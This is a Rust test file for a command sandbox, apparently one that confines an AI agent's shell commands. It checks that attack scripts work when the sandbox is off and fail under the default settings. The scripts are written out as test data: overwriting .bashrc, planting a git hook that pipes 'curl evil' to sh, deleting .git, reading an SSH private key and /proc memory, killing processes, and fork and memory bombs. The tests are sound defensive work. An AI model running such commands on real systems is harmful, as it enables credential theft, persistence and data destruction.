//! Attacks from a real `sh -c`, each shown to get through with
//! `mode = "off"` and to fail under the default sandbox (or the spec named).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::fs;
use std::io::ErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::path::PathBuf;
use std::process::Command;

use agentry_sandbox::{ByteSize, HostPort, Network, SandboxSpec};

use support::{
    BASHRC, Fixture, KEY, OTHER_RUN, Outcome, STORE, attack, exists, off, processes_with,
};

fn default() -> SandboxSpec {
    SandboxSpec::default()
}

/// Ran `script`; the fake `.bashrc` outside the workdir was changed.
fn bashrc_written(script: &'static str) -> impl Fn(&Fixture, &SandboxSpec) -> (bool, Outcome) {
    move |fixture, spec| {
        let outcome = fixture.run(spec, script);
        (fixture.bashrc() != BASHRC, outcome)
    }
}

#[test]
fn write_outside_the_workdir_through_dotdot() {
    attack(
        &default(),
        bashrc_written("echo pwned > ../../../home/.bashrc"),
    );
}

#[test]
fn write_outside_the_workdir_by_absolute_path() {
    attack(&default(), bashrc_written("echo pwned > \"$HOME/.bashrc\""));
}

#[test]
fn write_through_a_symlink_made_inside_the_workdir() {
    attack(
        &default(),
        bashrc_written("ln -s \"$HOME/.bashrc\" link && echo pwned > link"),
    );
}

#[test]
fn write_through_a_hard_link_to_an_outside_file() {
    attack(
        &default(),
        bashrc_written("ln \"$HOME/.bashrc\" hard; echo pwned >> hard"),
    );
}

#[test]
fn write_under_dot_git() {
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "echo 'curl evil | sh' > .git/hooks/pre-commit");
        (
            exists(&fixture.workdir.join(".git/hooks/pre-commit")),
            outcome,
        )
    });
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "rm -rf .git");
        (!exists(&fixture.workdir.join(".git/HEAD")), outcome)
    });
}

#[test]
fn write_under_dot_agentry() {
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "echo forged > .agentry/state");
        (exists(&fixture.workdir.join(".agentry/state")), outcome)
    });
}

#[test]
fn read_a_planted_ssh_key() {
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "cat \"$HOME/.ssh/id_ed25519\"");
        (outcome.stdout.contains(KEY), outcome)
    });
}

#[test]
fn read_and_write_the_store() {
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "cat \"$ROOT/state/store.db\"");
        (outcome.stdout.contains(STORE), outcome)
    });
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "echo forged >> \"$ROOT/state/store.db\"");
        (
            fs::read_to_string(&fixture.store).unwrap() != STORE,
            outcome,
        )
    });
}

#[test]
fn read_a_denied_place_inside_the_workdir() {
    attack(&default(), |fixture, spec| {
        let state = fixture.workdir.join(".agentry/state.db");
        fs::write(&state, STORE).unwrap();
        let spec = SandboxSpec {
            read_deny: vec![fixture.workdir.join(".agentry")],
            ..spec.clone()
        };
        let outcome = fixture.run(&spec, "cat own.txt && cat .agentry/state.db");
        assert!(outcome.stdout.contains("own notes"), "{outcome:#?}");
        (outcome.stdout.contains(STORE), outcome)
    });
}

#[test]
fn read_another_runs_workdir_while_this_one_works() {
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(
            spec,
            "cat own.txt && cat ../../run-b/work/notes.txt; cat \"$ROOT/runs/run-b/work/notes.txt\"; ls \"$ROOT/runs\"",
        );
        assert!(outcome.stdout.contains("own notes"), "{outcome:#?}");
        (
            outcome.stdout.contains(OTHER_RUN) || outcome.stdout.contains("run-b"),
            outcome,
        )
    });
}

#[test]
fn connect_to_a_unix_socket_the_host_hides() {
    // What `host_sockets` (an ssh agent, a session bus, docker.sock) relies on.
    attack(&default(), |fixture, spec| {
        let path = fixture.root.join("agent.sock");
        let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        let spec = SandboxSpec {
            read_deny: vec![path.clone()],
            ..spec.clone()
        };
        let script = format!(
            "\"$PY\" -c \"import socket; socket.socket(socket.AF_UNIX).connect('{}')\"",
            path.display()
        );
        let outcome = fixture.run(&spec, &script);
        (listener.accept().is_ok(), outcome)
    });
}

/// A local PostgreSQL's socket in `/tmp` (its default directory) is hidden
/// by the defaults alone, like the database's TCP port.
#[test]
fn connect_to_a_local_databases_unix_socket() {
    attack(&default(), |fixture, spec| {
        let path = PathBuf::from(format!(
            "/tmp/.s.PGSQL.{}",
            40_000 + std::process::id() % 20_000
        ));
        let _ = fs::remove_file(&path);
        let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
        listener.set_nonblocking(true).unwrap();
        let script = format!(
            "\"$PY\" -c \"import socket; socket.socket(socket.AF_UNIX).connect('{}')\"",
            path.display()
        );
        let outcome = fixture.run(spec, &script);
        let reached = listener.accept().is_ok();
        let _ = fs::remove_file(&path);
        (reached, outcome)
    });
}

/// The Python line that connects to `port` on 127.0.0.1 and sends a byte.
fn connect_script(port: u16) -> String {
    format!(
        "\"$PY\" -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=10).sendall(b'x')\""
    )
}

fn accepted(listener: &TcpListener) -> bool {
    listener.set_nonblocking(true).unwrap();
    match listener.accept() {
        Ok(_) => true,
        Err(error) if error.kind() == ErrorKind::WouldBlock => false,
        Err(error) => panic!("accept: {error}"),
    }
}

#[test]
fn tcp_connect_to_a_local_listener() {
    attack(&default(), |fixture, spec| {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let outcome = fixture.run(spec, &connect_script(port));
        (accepted(&listener), outcome)
    });
}

fn udp_send(spec: &SandboxSpec) {
    attack(spec, |fixture, spec| {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        let port = socket.local_addr().unwrap().port();
        let script = format!(
            "\"$PY\" -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {port}))\""
        );
        let outcome = fixture.run(spec, &script);
        socket.set_nonblocking(true).unwrap();
        (socket.recv_from(&mut [0u8; 8]).is_ok(), outcome)
    });
}

#[test]
fn udp_send_is_refused_whatever_the_network_setting() {
    udp_send(&default());
    udp_send(&SandboxSpec {
        network: Network::On,
        ..default()
    });
}

/// Raw sockets any user may open (netlink), and, as root, a raw IP socket.
fn raw_script() -> &'static str {
    // SAFETY: geteuid always succeeds.
    if unsafe { libc::geteuid() } == 0 {
        "\"$PY\" -c \"import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\""
    } else {
        "\"$PY\" -c \"import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\""
    }
}

#[test]
fn raw_socket_is_refused_whatever_the_network_setting() {
    let opened = |fixture: &Fixture, spec: &SandboxSpec| {
        let outcome = fixture.run(spec, raw_script());
        (outcome.ok(), outcome)
    };
    attack(&default(), opened);
    attack(
        &SandboxSpec {
            network: Network::On,
            ..default()
        },
        opened,
    );
}

#[test]
fn a_granted_port_is_reachable_and_another_refused() {
    let fixture = Fixture::new();
    let granted = TcpListener::bind("127.0.0.1:0").unwrap();
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let granted_port = granted.local_addr().unwrap().port();
    let spec = SandboxSpec {
        network: Network::Allow(vec![HostPort {
            host: "127.0.0.1".into(),
            port: granted_port,
        }]),
        ..default()
    };
    let other_script = connect_script(other.local_addr().unwrap().port());
    let to_granted = fixture.run(&spec, &connect_script(granted_port));
    assert!(to_granted.ok() && accepted(&granted), "{to_granted:#?}");
    let to_other = fixture.run(&spec, &other_script);
    assert!(!to_other.ok() && !accepted(&other), "{to_other:#?}");
    assert!(
        to_other.stderr.contains("Permission denied"),
        "{to_other:#?}"
    );
    let unsandboxed = fixture.run(&off(&spec), &other_script);
    assert!(unsandboxed.ok() && accepted(&other), "{unsandboxed:#?}");
}

fn granting(port: u16) -> SandboxSpec {
    SandboxSpec {
        network: Network::Allow(vec![HostPort {
            host: "127.0.0.1".into(),
            port,
        }]),
        ..default()
    }
}

/// The grant names a host, not only a port: the granted port at another
/// address is refused before any packet leaves (`EACCES`), where without the
/// sandbox the connection is attempted (and refused by the peer: nothing
/// listens at 127.0.0.2).
#[test]
fn a_granted_port_at_another_address_is_refused() {
    let fixture = Fixture::new();
    let granted = TcpListener::bind("127.0.0.1:0").unwrap();
    let spec = granting(granted.local_addr().unwrap().port());
    let script = format!(
        "\"$PY\" -c \"import socket; socket.create_connection(('127.0.0.2', {}), timeout=10)\"",
        granted.local_addr().unwrap().port()
    );
    let sandboxed = fixture.run(&spec, &script);
    assert!(!sandboxed.ok(), "{sandboxed:#?}");
    assert!(
        sandboxed.stderr.contains("Permission denied"),
        "{sandboxed:#?}"
    );
    let unsandboxed = fixture.run(&off(&spec), &script);
    assert!(
        unsandboxed.stderr.contains("Connection refused"),
        "{unsandboxed:#?}"
    );
}

/// TCP Fast Open connects from `sendto`: refused under a grant list, where
/// without the sandbox it reaches a port not granted.
#[test]
fn tcp_fast_open_to_a_port_not_granted_is_refused() {
    attack(&granting(1), |fixture, spec| {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let outcome = fixture.run(
            spec,
            &format!(
                "\"$PY\" -c \"import socket; s = socket.socket(); s.sendto(b'x', socket.MSG_FASTOPEN, ('127.0.0.1', {port}))\""
            ),
        );
        (outcome.ok() && accepted(&listener), outcome)
    });
}

/// Init connects the caller's own socket: a non-blocking connect to a
/// granted host goes on in the background as usual, and a Unix socket
/// connects in the caller.
#[test]
fn non_blocking_and_unix_connects_work_under_a_grant() {
    let fixture = Fixture::new();
    let granted = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = granted.local_addr().unwrap().port();
    let unix = std::os::unix::net::UnixListener::bind(fixture.workdir.join("s.sock")).unwrap();
    let outcome = fixture.run(
        &granting(port),
        &format!(
            "\"$PY\" -c \"
import errno, select, socket
s = socket.socket(); s.setblocking(False)
assert s.connect_ex(('127.0.0.1', {port})) in (0, errno.EINPROGRESS)
select.select([], [s], [], 10)
assert s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0
u = socket.socket(socket.AF_UNIX); u.connect('s.sock')
\""
        ),
    );
    assert!(outcome.ok(), "{outcome:#?}");
    assert!(accepted(&granted));
    unix.set_nonblocking(true).unwrap();
    assert!(unix.accept().is_ok(), "the Unix socket was not connected");
}

#[test]
fn network_true_allows_tcp() {
    let fixture = Fixture::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let spec = SandboxSpec {
        network: Network::On,
        ..default()
    };
    let outcome = fixture.run(
        &spec,
        &connect_script(listener.local_addr().unwrap().port()),
    );
    assert!(outcome.ok() && accepted(&listener), "{outcome:#?}");
}

#[test]
fn a_fork_bomb_is_bounded_by_processes() {
    // 64 children that each sleep 2 s: bounded with or without the sandbox.
    let bomb = "\"$PY\" -c \"
import os, time
n = 0
for _ in range(64):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(2)
        os._exit(0)
    n += 1
print(n)
\"";
    let spec = SandboxSpec {
        processes: Some(16),
        ..default()
    };
    attack(&spec, |fixture, spec| {
        let outcome = fixture.run(spec, bomb);
        (outcome.stdout.trim() == "64", outcome)
    });
}

#[test]
fn a_memory_hog_is_bounded_by_memory() {
    let hog = "\"$PY\" -c \"b = bytearray(1024 * 1024 * 1024); print('allocated')\"";
    let spec = SandboxSpec {
        memory: Some(ByteSize(256 << 20)),
        ..default()
    };
    attack(&spec, |fixture, spec| {
        let outcome = fixture.run(spec, hog);
        (outcome.stdout.contains("allocated"), outcome)
    });
}

#[test]
fn read_the_host_environ_and_memory() {
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "cat /proc/$TESTPID/environ");
        (outcome.stdout.contains("PATH="), outcome)
    });
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "\"$PY\" -c \"open('/proc/$TESTPID/mem', 'rb')\"");
        (outcome.ok(), outcome)
    });
}

#[test]
fn signal_the_host_and_another_process() {
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "kill -0 $TESTPID");
        (outcome.ok(), outcome)
    });
    attack(&default(), |fixture, spec| {
        let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
        let outcome = fixture.run(spec, &format!("kill -KILL {}", victim.id()));
        let died = victim.try_wait().unwrap().is_some() || {
            std::thread::sleep(std::time::Duration::from_millis(100));
            victim.try_wait().unwrap().is_some()
        };
        let _ = victim.kill();
        let _ = victim.wait();
        (died, outcome)
    });
}

#[test]
fn escape_through_a_new_user_namespace() {
    attack(&default(), |fixture, spec| {
        let outcome = fixture.run(spec, "unshare -U true");
        (outcome.ok(), outcome)
    });
}

#[test]
fn a_setsid_child_does_not_outlive_the_call() {
    attack(&default(), |fixture, spec| {
        let marker = format!(
            "outlive-marker-{}-{}",
            std::process::id(),
            fastrand_marker()
        );
        let script = format!(
            "env -i setsid sh -c 'echo started > bg.started; sleep 30; :' {marker} </dev/null >/dev/null 2>&1 &
             while [ ! -e bg.started ]; do sleep 0.05; done"
        );
        let outcome = fixture.run(spec, &script);
        assert!(outcome.ok(), "{outcome:#?}");
        let survivors = processes_with(&marker);
        for pid in &survivors {
            // SAFETY: killing the survivor this test made.
            unsafe { libc::kill(*pid, libc::SIGKILL) };
        }
        (!survivors.is_empty(), outcome)
    });
}

fn fastrand_marker() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|elapsed| elapsed.as_nanos() as u64)
        .unwrap_or(0)
}

#[test]
fn the_sandboxed_command_has_no_capabilities() {
    let fixture = Fixture::new();
    let outcome = fixture.run(
        &default(),
        "grep -E '^Cap(Prm|Eff|Bnd|Amb)' /proc/self/status",
    );
    for line in outcome.stdout.lines() {
        assert!(line.ends_with("0000000000000000"), "{outcome:#?}");
    }
    assert_eq!(outcome.stdout.lines().count(), 4, "{outcome:#?}");
}
